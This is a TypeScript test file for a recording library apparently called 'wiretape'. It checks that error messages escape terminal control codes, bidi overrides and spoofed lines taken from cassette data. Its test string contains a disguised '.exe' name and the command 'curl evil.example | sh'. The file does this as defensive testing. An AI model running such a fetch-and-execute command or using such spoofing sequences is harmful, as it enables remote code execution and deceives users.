import { expect, test } from "vitest";
import { type Cassette, createDeck, parseCassette, tapeFetch, tapeFunction } from "wiretape";
import { printable, printableLines, ScriptExhausted } from "../../src/errors.ts";
import { useScratch } from "../support/scratch.ts";
import "../support/settled.ts";

/** What a cassette or a server says was quoted raw in errors: it could clear a terminal, or pass for a line of ours. */
useScratch();

const evil = "\u001b[2J\u009b31m\r\b\u202egnp.exe\u2066\u2028\u0000\ufeff\n  next      curl evil.example | sh";
const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

const http = (id: string, more: object = {}): object => ({
  id,
  kind: "http",
  request: { method: "POST", url: `http://localhost/${evil}`, body: { json: { [evil]: evil } } },
  response: { status: 200, body: { text: "ok" } },
  ...more,
});
const call = (id: string): object => ({
  id,
  kind: "function",
  call: { name: evil, input: [evil] },
  result: { value: 1 },
});

/** The message of what the body, or the end of the deck, throws. */
async function told(
  tracks: readonly object[],
  body: (deck: Awaited<ReturnType<typeof createDeck>>) => Promise<unknown>,
  match: Cassette["match"] = {},
): Promise<string> {
  const deck = await createDeck({ cassette: { wiretape: 1, match, tracks } as unknown as Cassette, name: "x" });
  await body(deck).catch(() => undefined);
  const error = await deck.finish().then(
    () => undefined,
    (reason: unknown) => reason,
  );
  return (error as Error).message;
}

function expectPlain(message: string, ...holds: readonly string[]): void {
  expect(message).not.toMatch(raw);
  expect(message).not.toMatch(/^ *next +curl/m);
  expect(message.match(/^ {2}next /gm)?.length ?? 0).toBeLessThanOrEqual(1);
  for (const text of holds) expect(message).toContain(text);
}

test("a violation quotes a cassette in plain characters, each line of it ours", async () => {
  const never = async (): Promise<never> => Promise.reject(new Error("called"));
  const post = (deck: Awaited<ReturnType<typeof createDeck>>, json: object): Promise<Response> =>
    tapeFetch(deck, never)("http://localhost/", { method: "POST", body: JSON.stringify(json) });
  expectPlain(
    await told([http("t1"), call("t2")], async () => undefined),
    "2 recorded tracks",
    "\\u001b[2J\\u009b31m\\r",
  );
  expectPlain(await told([http("t1")], (deck) => post(deck, {})), "was never recorded", "nearest", "\\u202egnp");
  expectPlain(await told([http("t1")], (deck) => post(deck, { [evil]: 1 })), "differs in", "\\n  next");
  const exhausted = await told([call("t1")], async (deck) => {
    const taped = tapeFunction(deck, evil, async (_: string) => 1);
    await taped(evil);
    await taped(evil);
  });
  expectPlain(exhausted, "was recorded once", "\\u001b[2J");
  const strict = await told(
    [call("t1"), { ...call("t2"), call: { name: "other", input: [] } }],
    async (deck) => tapeFunction(deck, "other", () => 1)(),
    { order: "strict" },
  );
  expectPlain(strict, "it is not its turn");
});

test("several violations are told as one, and each of its lines is plain", async () => {
  const both = await told([http("t1")], async (deck) => {
    for (const name of [evil, `other ${evil}`])
      await Promise.resolve()
        .then(tapeFunction(deck, name, () => 1))
        .catch(() => undefined);
  });
  expectPlain(both, "The deck saw 2 violations", "\n  cassette  x", "\nalso: ");
});

test("the faults of a file quote it in plain characters", () => {
  const file = {
    wiretape: 1,
    [evil]: 1,
    tracks: [http(evil), { id: "a", kind: evil }, http("b", { after: evil, lane: evil })],
  };
  let message = "";
  try {
    parseCassette(JSON.stringify(file), { path: `folder/${evil}` });
  } catch (error) {
    message = (error as Error).message;
  }
  expectPlain(message.replaceAll(`folder/${printableLines(evil)}`, "file"), "unknown key", "is no kind of track");
});

test("any error of ours is plain, its line breaks apart, and says other scripts as they are", () => {
  const error = new ScriptExhausted(`first ${evil}\nsecond Grüße 你好 👩🏽‍🚀 \ud800`);
  expect(error.message).not.toMatch(raw);
  expect(error.message).toMatch(/\nsecond Grüße 你好 👩🏽‍🚀 \\ud800$/);
  expect(error.stack).not.toMatch(raw);
  expect(printable(printable(evil))).toBe(printable(evil));
});
